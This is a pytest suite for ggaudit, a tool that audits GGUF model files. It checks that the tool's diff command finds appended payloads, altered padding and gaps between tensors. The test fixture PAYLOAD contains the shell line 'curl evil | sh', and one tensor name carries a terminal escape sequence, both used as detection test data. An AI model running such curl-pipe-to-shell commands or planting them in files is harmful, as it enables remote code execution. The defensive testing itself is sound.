"""`diff A B` compares the bytes no tensor owns (issue 23, item 6).

A payload appended after the last tensor, a byte in the alignment padding, a gap between tensors: `scan`
flags each in one file, and `diff` used to call two files identical when only B had one. Each region
no tensor owns (ggaudit/format/structure.py's walk) is matched to the other file's by its place and
compared by content, streamed; the files' alignment, data offset and size are compared too. Every
difference is located in both files, and makes `diff` exit 1.
"""

from __future__ import annotations

import json
import shutil
import tracemalloc
from pathlib import Path

import numpy as np
import pytest
from gguf import GGMLQuantizationType as T, GGUFValueType as V

import ggaudit
from ggaudit.format.build import TensorSpec, Typed, write_gguf
from ggaudit.format.layout import open_gguf, open_model
from ggaudit.verify.diff import diff_models
from ggaudit.verify.diff_structure import RegionChange

from support import run_cli, write_split_set
from test_json_schema import errors
from test_report_junit import cases, parsed
from test_report_sarif import the_run, valid_sarif, where
from test_structure import ROWS_A, ROWS_B, _raw_gguf, _two_tensors

PAYLOAD = b"#!/bin/sh\ncurl evil | sh\n\x00\x01\x02"       # 28 bytes, as in tests/test_structure.py
SUMMARY = "summary: 2 identical, 0 differ, 0 changed type or shape, 0 only in a, 0 only in b, 0 metadata keys differ"


def _pair(tmp_path: Path) -> tuple[Path, Path, int]:
    """Two files of the same two tensors (b.weight, the last, ends 16 bytes short of the alignment);
    returns them and the size of each."""
    a, b = tmp_path / "a.gguf", tmp_path / "b.gguf"
    _two_tensors(a)
    _two_tensors(b)
    assert a.read_bytes() == b.read_bytes()
    return a, b, a.stat().st_size


def _append(path: Path, data: bytes) -> None:
    with open(path, "ab") as f:
        f.write(data)


def _poke(path: Path, offset: int, value: int) -> None:
    data = bytearray(path.read_bytes())
    data[offset] = value
    path.write_bytes(bytes(data))


def _diff_cli(a: Path, b: Path) -> tuple[int, list[str]]:
    result = run_cli(["diff", a, b])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result.exit_code, result.stdout.splitlines()


def _json(a: Path, b: Path) -> dict:
    result = run_cli(["diff", a, b, "--json"])
    doc = json.loads(result.stdout)
    assert errors(doc) == []
    return doc["models"][0]


def _only_in_b(kind: str, after: str | None, before: str | None, offset: int, length: int, head: bytes
               ) -> RegionChange:
    return RegionChange(kind=kind, what="only-in-b", after=after, before=before, offset_a=None, length_a=None,
                        offset_b=offset, length_b=length, byte=0, first_a=None, first_b=offset, head_a="",
                        head_b=head.hex())


# --- the three variants ---------------------------------------------------------------------------

def test_an_appended_payload_is_a_trailing_region_only_b_has(tmp_path: Path) -> None:
    a, b, size = _pair(tmp_path)
    _append(b, PAYLOAD)
    report = ggaudit.diff(a, b)
    assert not report.ok and report.identical == ("a.weight", "b.weight")
    (s,) = report.structure
    assert s.facts == (("size", size, size + 28),)
    assert s.changes == (_only_in_b("trailing", "b.weight", None, size, 28, PAYLOAD[:16]),)
    assert report.structure_differences == 2
    code, lines = _diff_cli(a, b)
    assert code == 1
    assert lines[2:] == [
        f"CHANGED structure file: size {size} -> {size + 28}",
        f"  a: file {a}",
        f"  b: file {b}",
        f"ONLY-IN-B structure trailing after tensor b.weight: file {b}, offset {size}, length 28: "
        f"{PAYLOAD[:16].hex()}...",
        f"{SUMMARY}, 2 structure differences"]
    doc = _json(a, b)
    assert doc["ok"] is False
    assert doc["structure"] == [{
        "ok": False, "path_a": str(a), "path_b": str(b), "alignment_a": 32, "alignment_b": 32,
        "data_offset_a": open_gguf(a).data_offset, "data_offset_b": open_gguf(a).data_offset,
        "size_a": size, "size_b": size + 28, "regions_a": 1, "regions_b": 2,
        "changes": [{"kind": "trailing", "what": "only-in-b", "after": "b.weight", "before": None,
                     "offset_a": None, "length_a": None, "offset_b": size, "length_b": 28, "byte": 0,
                     "first_a": None, "first_b": size, "head_a": "", "head_b": PAYLOAD[:16].hex()}]}]
    # The other way round, the region is A's.
    (back,) = ggaudit.diff(b, a).structure[0].changes
    assert (back.what, back.offset_a, back.length_a, back.offset_b, back.head_a) == (
        "only-in-a", size, 28, None, PAYLOAD[:16].hex())


def test_data_in_the_padding_between_two_tensors_is_located_in_both(tmp_path: Path) -> None:
    a, b = tmp_path / "a.gguf", tmp_path / "b.gguf"
    four = np.ones(4, "<f4").tobytes()                                     # 16 bytes, then 16 of padding
    data_offset = _raw_gguf(a, [("a", four, 0), ("b", four, 32)])
    _raw_gguf(b, [("a", four, 0), ("b", four, 32)])
    pad = data_offset + 16
    _poke(b, pad + 15, 0xFF)                                               # the padding's last byte
    report = ggaudit.diff(a, b)
    (s,) = report.structure
    assert s.facts == ()
    assert s.changes == (RegionChange(kind="padding", what="changed", after="a", before="b", offset_a=pad,
                                      length_a=16, offset_b=pad, length_b=16, byte=15, first_a=pad + 15,
                                      first_b=pad + 15, head_a="00", head_b="ff"),)
    code, lines = _diff_cli(a, b)
    assert code == 1
    assert lines[2:] == [
        "CHANGED structure padding between tensor a and tensor b: first difference at byte 15 of the region",
        f"  a: file {a}, offset {pad}, length 16; at offset {pad + 15}: 00",
        f"  b: file {b}, offset {pad}, length 16; at offset {pad + 15}: ff",
        f"{SUMMARY}, 1 structure difference"]
    assert _json(a, b)["structure"][0]["changes"][0]["first_b"] == pad + 15


def test_a_gap_between_tensors_is_a_region_only_b_has(tmp_path: Path) -> None:
    a, b = tmp_path / "a.gguf", tmp_path / "b.gguf"
    eight = np.arange(8, dtype="<f4").tobytes()                            # 32 bytes: no padding
    data_offset = _raw_gguf(a, [("a", eight, 0), ("b", eight, 32)])
    assert _raw_gguf(b, [("a", eight, 0), ("b", eight, 96)]) == data_offset  # 64 bytes nobody owns
    report = ggaudit.diff(a, b)
    assert report.identical == ("a", "b")                                  # the same data, elsewhere
    (s,) = report.structure
    assert s.facts == (("size", data_offset + 64, data_offset + 128),)
    assert s.changes == (_only_in_b("gap", "a", "b", data_offset + 32, 64, bytes(16)),)
    code, lines = _diff_cli(a, b)
    assert code == 1
    assert lines[5] == (f"ONLY-IN-B structure gap between tensor a and tensor b: file {b}, "
                        f"offset {data_offset + 32}, length 64: {'00' * 16}...")


# --- siblings ------------------------------------------------------------------------------------

def test_a_non_zero_byte_in_the_header_padding(tmp_path: Path) -> None:
    a, b, _ = _pair(tmp_path)
    f = open_gguf(b)
    length = f.data_offset - f.header_end
    assert length > 3
    _poke(b, f.header_end + 3, 0xFF)
    (change,) = ggaudit.diff(a, b).structure[0].changes
    tail = min(length - 3, 16)
    assert change == RegionChange(
        kind="padding", what="changed", after=None, before="a.weight", offset_a=f.header_end, length_a=length,
        offset_b=f.header_end, length_b=length, byte=3, first_a=f.header_end + 3, first_b=f.header_end + 3,
        head_a=a.read_bytes()[f.header_end + 3:][:tail].hex(), head_b=b.read_bytes()[f.header_end + 3:][:tail].hex())
    assert change.head_b.startswith("ff")
    code, lines = _diff_cli(a, b)
    assert code == 1 and lines[2] == (
        "CHANGED structure padding between the header and tensor a.weight: first difference at byte 3 of the region")


def test_another_alignment_with_identical_tensors(tmp_path: Path) -> None:
    a, b = tmp_path / "a.gguf", tmp_path / "b.gguf"
    specs = [TensorSpec("a.weight", T.F32, (8, 4), ROWS_A.tobytes()),
             TensorSpec("b.weight", T.F32, (4, 3), ROWS_B.tobytes())]
    offs_a = write_gguf(a, specs, {"general.alignment": Typed(V.UINT32, 32)})
    offs_b = write_gguf(b, specs, {"general.alignment": Typed(V.UINT32, 64)}, alignment=64)
    assert offs_a["a.weight"] != offs_b["a.weight"]
    report = ggaudit.diff(a, b)
    assert report.identical == ("a.weight", "b.weight") and report.data_diffs == ()
    (s,) = report.structure
    # The padding is zeros in both: its length follows from the alignment, which is what is reported.
    size_a, size_b = a.stat().st_size, b.stat().st_size
    assert s.facts == (("alignment", 32, 64), ("data offset", offs_a["a.weight"], offs_b["a.weight"]),
                       ("size", size_a, size_b))
    assert s.changes == ()
    code, lines = _diff_cli(a, b)
    assert code == 1
    assert lines[3:6] == [
        f"CHANGED structure file: alignment 32 -> 64, data offset {offs_a['a.weight']} -> {offs_b['a.weight']}, "
        f"size {size_a} -> {size_b}", f"  a: file {a}", f"  b: file {b}"]


def test_the_same_trailing_payload_in_both_is_identical(tmp_path: Path) -> None:
    a, b, size = _pair(tmp_path)
    _append(a, PAYLOAD)
    _append(b, PAYLOAD)
    report = ggaudit.diff(a, b)
    assert report.ok
    (s,) = report.structure
    assert (s.regions_a, s.regions_b, s.size_a, s.size_b, s.changes) == (2, 2, size + 28, size + 28, ())
    code, lines = _diff_cli(a, b)
    assert (code, lines[2:]) == (0, [f"{SUMMARY}, 0 structure differences"])


def test_a_trailing_payload_differing_at_one_byte_gives_that_offset(tmp_path: Path) -> None:
    a, b, size = _pair(tmp_path)
    _append(a, PAYLOAD)
    _append(b, PAYLOAD[:10] + b"X" + PAYLOAD[11:])
    (change,) = ggaudit.diff(a, b).structure[0].changes
    assert change == RegionChange(kind="trailing", what="changed", after="b.weight", before=None, offset_a=size,
                                  length_a=28, offset_b=size, length_b=28, byte=10, first_a=size + 10,
                                  first_b=size + 10, head_a=PAYLOAD[10:26].hex(),
                                  head_b=(b"X" + PAYLOAD[11:26]).hex())
    code, lines = _diff_cli(a, b)
    assert code == 1
    assert lines[2:5] == [
        "CHANGED structure trailing after tensor b.weight: first difference at byte 10 of the region",
        f"  a: file {a}, offset {size}, length 28; at offset {size + 10}: {PAYLOAD[10:26].hex()}...",
        f"  b: file {b}, offset {size}, length 28; at offset {size + 10}: {(b'X' + PAYLOAD[11:26]).hex()}..."]


def test_zero_padding_is_compared_only_with_a_region_that_holds_more(tmp_path: Path) -> None:
    """After the last tensor, zeros up to the alignment are padding (gguf-py writes them, ggaudit's
    builder does not): they alone are no region difference, only another size. A payload after them
    is, from the first byte that A does not have."""
    a, b, size = _pair(tmp_path)
    assert size % 32 == 16
    _append(b, bytes(16))
    (s,) = ggaudit.diff(a, b).structure
    assert (s.facts, s.changes) == ((("size", size, size + 16),), ())
    _append(a, bytes(16))
    _append(b, PAYLOAD)
    (change,) = ggaudit.diff(a, b).structure[0].changes
    assert change == RegionChange(kind="trailing", what="changed", after="b.weight", before=None, offset_a=size,
                                  length_a=16, offset_b=size, length_b=44, byte=16, first_a=None,
                                  first_b=size + 16, head_a="", head_b=PAYLOAD[:16].hex())
    lines = _diff_cli(a, b)[1]
    assert lines[6:8] == [f"  a: file {a}, offset {size}, length 16; it ends at offset {size + 16}",
                          f"  b: file {b}, offset {size}, length 44; at offset {size + 16}: {PAYLOAD[:16].hex()}..."]


def test_a_long_payload_is_compared_in_bounded_chunks(tmp_path: Path) -> None:
    """64 MiB after the last tensor in both, compared 1 MiB at a time: never held whole, and the first
    differing byte (40 MiB in) found exactly."""
    a, b, size = _pair(tmp_path)
    tail = 64 << 20
    for path in (a, b):
        with open(path, "r+b") as f:
            f.truncate(size + tail)             # zeros, sparse where the file system can
    at = size + (40 << 20) + 7
    with open(b, "r+b") as f:
        f.seek(at)
        f.write(b"\x01")
    model_a, model_b = open_model(a), open_model(b)
    tracemalloc.start()
    try:
        report = diff_models(model_a, model_b, chunk_bytes=1 << 20)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 8 << 20, peak
    (change,) = report.structure[0].changes
    assert (change.kind, change.what, change.byte, change.first_a, change.first_b, change.head_b[:2]) == (
        "trailing", "changed", at - size, at, at, "01")
    assert (change.length_a, change.length_b) == (tail, tail)


def test_a_split_set_is_compared_shard_by_shard(tmp_path: Path) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    shards_a = write_split_set(tmp_path / "a")
    shards_b = [tmp_path / "b" / p.name for p in shards_a]
    for src, dst in zip(shards_a, shards_b, strict=True):
        shutil.copyfile(src, dst)
    size = shards_b[1].stat().st_size
    _append(shards_b[1], b"\x01")
    report = ggaudit.diff(shards_a[0], shards_b[0])
    first, second = report.structure
    assert (first.path_a, first.path_b, first.ok) == (str(shards_a[0]), str(shards_b[0]), True)
    assert (second.path_a, second.path_b) == (str(shards_a[1]), str(shards_b[1]))
    (change,) = second.changes
    assert (change.kind, change.what, change.offset_b, change.length_b) == ("trailing", "only-in-b", size, 1)
    assert _diff_cli(shards_a[0], shards_b[0])[1][5] == (
        f"ONLY-IN-B structure trailing after tensor {change.after}: file {shards_b[1]}, offset {size}, length 1: 01")


# --- the other reports ----------------------------------------------------------------------------

@pytest.fixture
def appended(tmp_path: Path) -> tuple[Path, Path, int]:
    a, b, size = _pair(tmp_path)
    _append(b, PAYLOAD)
    return a, b, size


def test_sarif_has_a_diff_structure_result_at_the_bytes(appended: tuple[Path, Path, int]) -> None:
    a, b, size = appended
    result = run_cli(["diff", a, b, "--format", "sarif"])
    assert result.exit_code == 1
    sarif = the_run(valid_sarif(result.stdout))
    facts, trailing = sarif["results"]
    assert (facts["ruleId"], trailing["ruleId"]) == ("diff/structure", "diff/structure")
    assert trailing["level"] == "error" and where(trailing) == (b.as_uri(), size, 28)
    assert facts["properties"]["size_b"] == size + 28
    (rule,) = sarif["tool"]["driver"]["rules"]
    assert rule["id"] == "diff/structure" and "no tensor owns" in rule["shortDescription"]["text"]
    assert "\n".join(r["message"]["text"] for r in sarif["results"]) == "\n".join(_diff_cli(a, b)[1][2:-1])
    assert sarif["properties"]["targets"][0]["structure"] == 2


def test_sarif_locates_a_changed_region_in_b_with_a_related(tmp_path: Path) -> None:
    a, b, size = _pair(tmp_path)
    _append(a, PAYLOAD)
    _append(b, PAYLOAD[:3] + b"?" + PAYLOAD[4:])
    (changed,) = the_run(valid_sarif(run_cli(["diff", a, b, "--format", "sarif"]).stdout))["results"]
    assert where(changed) == (b.as_uri(), size, 28) and changed["properties"]["first_b"] == size + 3
    related = changed["relatedLocations"][0]["physicalLocation"]
    assert (related["artifactLocation"]["uri"], related["region"]) == (
        a.as_uri(), {"startLine": 1, "byteOffset": size, "byteLength": 28})


def test_junit_has_a_structure_case(appended: tuple[Path, Path, int]) -> None:
    a, b, size = appended
    result = run_cli(["diff", a, b, "--format", "junit"])
    (suite,) = parsed(result.stdout)
    assert result.exit_code == 1
    assert cases(suite) == [("metadata", "pass"), ("structure", "failure"), ("a.weight", "pass"),
                            ("b.weight", "pass")]
    failure = suite.find("testcase[@name='structure']/failure")
    assert failure is not None and failure.attrib["type"] == "structure"
    assert failure.attrib["message"] == "2 structure differences"
    assert failure.text is not None and f"offset {size}, length 28" in failure.text
    same = run_cli(["diff", a, a, "--format", "junit"])
    assert ("structure", "pass") in cases(parsed(same.stdout)[0])


def test_html_lists_the_structure_differences(appended: tuple[Path, Path, int], tmp_path: Path) -> None:
    a, b, size = appended
    out = tmp_path / "r.html"
    assert run_cli(["diff", a, b, "--format", "html", "-o", out]).exit_code == 1
    page = out.read_text("utf-8")
    assert "<h3>Structure</h3>" in page and f"offset {size}, length 28" in page


def test_names_in_a_structure_line_are_escaped(tmp_path: Path) -> None:
    a, b = tmp_path / "a.gguf", tmp_path / "b.gguf"
    for path in (a, b):
        write_gguf(path, [TensorSpec("evil\x1b[2J", T.F32, (4,), np.ones(4, "<f4").tobytes())])
    _append(b, b"\x01")
    lines = _diff_cli(a, b)[1]
    assert "ONLY-IN-B structure trailing after tensor evil\\x1b[2J: " in lines[5] and "\x1b" not in "".join(lines)
    assert _json(a, b)["structure"][0]["changes"][0]["after"] == "evil\x1b[2J"
